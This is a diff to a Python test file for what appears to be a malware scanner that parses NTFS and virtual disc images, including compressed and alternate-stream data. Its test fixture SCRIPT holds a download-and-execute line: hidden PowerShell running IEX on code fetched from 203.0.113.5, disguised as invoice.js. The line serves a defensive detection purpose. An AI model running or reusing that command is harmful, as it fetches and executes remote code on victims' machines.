@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from safecare.examine.api import Verdicts
 from safecare.examine.engine import Engine
-from safecare.formats.discs import DiscError, files, holds_files, joined, opened, virtual
+from safecare.formats.discs import DiscError, Packed, files, holds_files, joined, opened, virtual
 
 SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'
 WORDS = b"What was said on the second of March.\r\n" * 20
@@ -28,10 +28,11 @@ def attribute(kind: int, value: bytes, stream: str = "") -> bytes:
     return (head.ljust(at, b"\0") + value).ljust(size, b"\0")
 
 
-def outside(size: int, runs: bytes, flags: int = 0) -> bytes:
-    """Return an attribute of data that lies in pieces."""
-    head = struct.pack("<IIBBHHHQQHHIQQQ", 0x80, 72, 1, 0, 64, flags, 0, 0, 0, 64, 0, 0, size, size, size)
-    return (head + runs).ljust(72, b"\0")
+def outside(size: int, runs: bytes, flags: int = 0, unit: int = 0) -> bytes:
+    """Return an attribute of data that lies in pieces; compressed in units of 2^`unit` clusters."""
+    whole = -(-(65 + len(runs)) // 8) * 8
+    head = struct.pack("<IIBBHHHQQHHIQQQ", 0x80, whole, 1, 0, 64, flags, 0, 0, 0, 64, unit, 0, size, size, size)
+    return (head + runs).ljust(whole, b"\0")
 
 
 def record(*attributes: bytes, folder: bool = False) -> bytes:
@@ -48,16 +49,19 @@ def named(name: str, parent: int) -> bytes:
     )
 
 
-def ntfs(name: str, raw: bytes, stream: str = "", *, packed: bool = False) -> bytes:
-    """Return a volume with a folder that holds one file in two pieces, the second in front of the first."""
+def ntfs(name: str, raw: bytes, stream: str = "", *attributes: bytes) -> bytes:
+    """Return a volume with a folder that holds one file in two pieces, the second in front of the first.
+
+    `attributes`: those of the file, instead of the one of its data.
+    """
     half = CLUSTER * 2
     boot = b"\xeb\x52\x90NTFS    " + struct.pack("<HB", CLUSTER, 1)
     boot = (boot.ljust(48, b"\0") + struct.pack("<QQB", 8, 0, 0xF6)).ljust(510, b"\0") + b"\x55\xaa"
     table = [record(outside(27 * RECORD, b"\x11\x36\x08"))] + [record()] * 24
     table.append(record(named("dir", 5), folder=True))
-    content = outside(len(raw), b"\x11\x02\x58\x11\x02\xfc", 1 if packed else 0)
+    content = attributes or (outside(len(raw), b"\x11\x02\x58\x11\x02\xfc"),)
     extra = attribute(0x80, SCRIPT, stream) if stream else b""
-    table.append(record(named(name, 25), content, extra))
+    table.append(record(named(name, 25), *content, extra))
     volume = bytearray((boot.ljust(8 * CLUSTER, b"\0") + b"".join(table)).ljust(96 * CLUSTER, b"\0"))
     volume[0x58 * CLUSTER : 0x58 * CLUSTER + half] = raw[:half].ljust(half, b"\0")
     volume[0x54 * CLUSTER : 0x54 * CLUSTER + half] = raw[half : 2 * half].ljust(half, b"\0")
@@ -127,7 +131,7 @@ def test_files_of_a_volume_are_read_and_judged(kind: str) -> None:
     attack, honest = IMAGES[kind]("invoice.js", script), IMAGES[kind]("notes.txt", WORDS)
     image = opened(attack)
     [(path, pieces, size)] = files(attack, image)
-    assert pieces is not None
+    assert isinstance(pieces, bytes | list)
     assert (path.rsplit("/", 1)[-1], joined(image, pieces, size)) == ("invoice.js", script)
     assert holds_files(attack) or virtual(attack)
     found = Engine().judge(attack, "a.img")
@@ -141,16 +145,54 @@ def test_a_script_in_a_second_stream_is_told_and_the_mark_of_the_web_is_not() ->
     assert "name.stream" not in [one.rule for one in Engine().judge(marked).findings]
 
 
-def test_what_is_packed_on_the_disc_is_named_and_said_not_to_be_read() -> None:
-    raw = ntfs("invoice.js", SCRIPT, packed=True)
+@pytest.mark.parametrize("flags", [0x4000, 1], ids=["encrypted", "no unit"])
+def test_what_is_locked_on_the_disc_is_named_and_said_not_to_be_read(flags: int) -> None:
+    raw = ntfs("invoice.js", SCRIPT, "", outside(len(SCRIPT), b"\x11\x02\x58", flags))
     assert [(path, pieces) for path, pieces, _ in files(raw, raw)] == [("dir/invoice.js", None)]
     assert "disc.closed" in [one.rule for one in Engine().judge(raw).findings]
 
 
+def plain_chunk(raw: bytes) -> bytes:
+    """Return a chunk of LZNT1 without repetitions."""
+    pieces = b"".join(b"\0" + raw[at : at + 8] for at in range(0, len(raw), 8))
+    return struct.pack("<H", 0xB000 | len(pieces) - 1) + pieces
+
+
+def test_what_ntfs_compresses_is_read() -> None:
+    """Units of four clusters: one packed into two of them, one of nothing, one that packing made no smaller."""
+    unit = 4 * CLUSTER
+    contents = SCRIPT.ljust(unit, b"\0") + bytes(unit) + bytes(range(256)) * 8
+    runs = b"\x11\x02\x58\x01\x02\x01\x04\x11\x04\xfc"
+    raw = bytearray(ntfs("invoice.js", plain_chunk(SCRIPT), "", outside(len(contents), runs, 1, 2)))
+    raw[0x54 * CLUSTER : 0x58 * CLUSTER] = contents[2 * unit :]
+    [(path, pieces, size)] = files(bytes(raw), bytes(raw))
+    assert isinstance(pieces, Packed)
+    assert (path, pieces.read(size), pieces.read(100)) == ("dir/invoice.js", contents, contents[:100])
+    assert Engine().judge(bytes(raw)).score >= 0.5
+    raw[0x58 * CLUSTER + 2] = 1  # a repetition before anything stands there
+    assert [one.rule for one in Engine().judge(bytes(raw)).findings] == ["disc.closed"]
+
+
+@pytest.mark.parametrize(("algorithm", "known"), [(0, True), (2, True), (7, False)])
+def test_what_windows_keeps_packed_is_read(algorithm: int, known: bool) -> None:
+    stands = SCRIPT + b" " * (4096 - len(SCRIPT))  # a chunk that packing made no smaller
+    mark = struct.pack("<IHHIIII", 0x80000017, 16, 0, 1, 2, 1, algorithm)
+    attributes = (
+        attribute(0x80, stands[: len(SCRIPT)], "WofCompressedData"),
+        outside(len(SCRIPT), b"\x01\x08", 0x8000),
+        attribute(0xC0, mark),
+    )
+    raw = ntfs("invoice.js", b"", "", *attributes)
+    [(path, pieces, size)] = files(raw, raw)
+    assert (path, size) == ("dir/invoice.js", len(SCRIPT))
+    assert (pieces.read(size) if isinstance(pieces, Packed) else pieces) == (SCRIPT if known else None)
+    assert (Engine().judge(raw).score >= 0.5) is known
+
+
 def test_a_virtual_disc_without_a_known_volume_is_said_not_to_be_read() -> None:
     verdict = Engine().judge(old_hyper_v(bytes(65536)), "a.vhd")
-    assert (verdict.verdict, [one.rule for one in verdict.findings]) == (Verdicts.CLEAN, ["disc.closed"])
-    assert "disc.closed" in [one.rule for one in Engine().judge(b"MSWIM\0\0\0" + bytes(300)).findings]
+    assert (verdict.verdict, [one.rule for one in verdict.findings]) == (Verdicts.UNREADABLE, ["disc.closed"])
+    assert Engine().judge(b"MSWIM\0\0\0" + bytes(100)).verdict is Verdicts.UNREADABLE
 
 
 def test_what_stands_behind_more_entries_than_are_looked_at_is_said_not_to_be() -> None:
@@ -178,7 +220,7 @@ def test_damaged_volumes_end(kind: str, changes: list[tuple[int, bytes]]) -> Non
     try:
         image = opened(bytes(raw))
         for _, pieces, size in files(bytes(raw), image):
-            if pieces is not None:
+            if isinstance(pieces, bytes | list):
                 joined(image, pieces, min(size, len(raw)))
     except DiscError:
         pass
